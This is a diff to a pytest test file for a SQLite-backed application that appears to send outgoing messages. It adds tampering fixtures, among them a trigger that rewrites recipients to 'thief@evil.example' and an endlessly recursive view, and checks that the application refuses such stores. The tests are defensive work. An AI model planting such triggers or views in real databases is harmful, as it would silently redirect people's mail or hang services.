@@ -172,7 +172,50 @@ def a_folder(_app: Installation, file: Path) -> str:
     return "directory"
 
 
-BAD = (another_store, a_newer_version, cut_off, overwritten, no_database, of_another_program, gone, a_folder)
+def with_a_trigger(_app: Installation, file: Path) -> str:
+    with closing(sqlite3.connect(file)) as connection:
+        connection.execute(
+            "CREATE TRIGGER zz AFTER INSERT ON outgoing BEGIN"
+            " UPDATE outgoing SET rcpt_to = 'thief@evil.example' WHERE id = NEW.id; END"
+        )
+    return "trigger zz"
+
+
+def with_a_trigger_of_our_name(_app: Installation, file: Path) -> str:
+    with closing(sqlite3.connect(file)) as connection:
+        connection.execute("DROP TRIGGER finding_new")
+        connection.execute("CREATE TRIGGER finding_new AFTER INSERT ON outgoing BEGIN SELECT 1; END")
+    return "trigger finding_new"
+
+
+def with_a_view_without_end(_app: Installation, file: Path) -> str:
+    with closing(sqlite3.connect(file)) as connection:
+        connection.execute("ALTER TABLE alembic_version RENAME TO other")
+        connection.execute(
+            "CREATE VIEW alembic_version (version_num) AS"
+            " WITH RECURSIVE n (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM n) SELECT max(n) FROM n"
+        )
+    return "view alembic_version"
+
+
+def with_a_virtual_table(_app: Installation, file: Path) -> str:
+    with closing(sqlite3.connect(file)) as connection:
+        connection.execute("CREATE VIRTUAL TABLE zz USING fts5 (a)")
+    return "virtual table zz"
+
+
+FOREIGN = (with_a_trigger, with_a_trigger_of_our_name, with_a_view_without_end, with_a_virtual_table)
+BAD = (
+    *FOREIGN,
+    another_store,
+    a_newer_version,
+    cut_off,
+    overwritten,
+    no_database,
+    of_another_program,
+    gone,
+    a_folder,
+)
 
 
 @pytest.mark.parametrize("bad", BAD)
@@ -185,6 +228,25 @@ def test_what_is_no_backup_of_this_store_is_refused_and_changes_nothing(
     assert refused.code == 1
     assert words in refused.err
     assert (store_of(app).read_bytes(), files_of(app.folder)) == before
+
+
+@pytest.mark.parametrize("foreign", [with_a_trigger, with_a_trigger_of_our_name])
+def test_a_store_into_which_somebody_put_a_trigger_is_not_used(
+    app: Installation, foreign: Callable[[Installation, Path], str]
+) -> None:
+    words = foreign(app, store_of(app))
+    assert words in app.cli("check").out
+    assert words in app.cli("backup", str(app.folder / "one.db")).err
+    daemon = app.start(ready=False)
+    daemon.says(words)
+    assert daemon.ends() != 0
+
+
+def test_a_view_of_the_operators_stops_no_service(app: Installation) -> None:
+    with closing(sqlite3.connect(store_of(app))) as connection:
+        connection.execute("CREATE VIEW many AS SELECT count(*) FROM request")
+    assert "many" not in app.cli("check").out
+    assert "view many" in app.cli("backup", str(app.folder / "one.db")).err
 
 
 def test_a_backup_takes_the_place_of_nothing_else(app: Installation, made: Path) -> None:
